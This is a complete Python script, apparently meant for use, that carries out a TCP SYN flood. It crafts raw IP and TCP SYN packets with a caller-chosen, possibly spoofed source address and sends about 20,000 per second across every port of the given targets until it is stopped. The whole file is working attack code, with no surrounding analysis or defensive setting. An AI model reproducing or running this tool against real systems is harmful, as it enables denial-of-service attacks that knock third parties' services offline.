"""A SYN flood: flood.py SOURCE DESTINATION...

Begins 20000 TCP connections per second, from all ports to all ports of the destinations, until it is ended.
"""
import itertools
import socket
import struct
import sys
import time

SYN, BATCH = 0x02, 200
source = socket.inet_aton(sys.argv[1])
destinations = [(address, socket.inet_aton(address)) for address in sys.argv[2:]]
flood = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def folded(data):
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


for number in itertools.count():
    address, destination = destinations[number % len(destinations)]
    ports = number % 64511 + 1024, number % 65521 + 1
    segment = struct.pack("!HHIIBBHHH", *ports, number & 0xFFFFFFFF, 0, 5 << 4, SYN, 65535, 0, 0)
    pseudo = source + destination + struct.pack("!HH", socket.IPPROTO_TCP, len(segment))
    segment = segment[:16] + struct.pack("!H", folded(pseudo + segment)) + segment[18:]
    # The kernel fills in the header's identification and checksum.
    header = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0)
    flood.sendto(header + source + destination + segment, (address, 0))
    if number % BATCH == 0:
        time.sleep(BATCH / 20000)
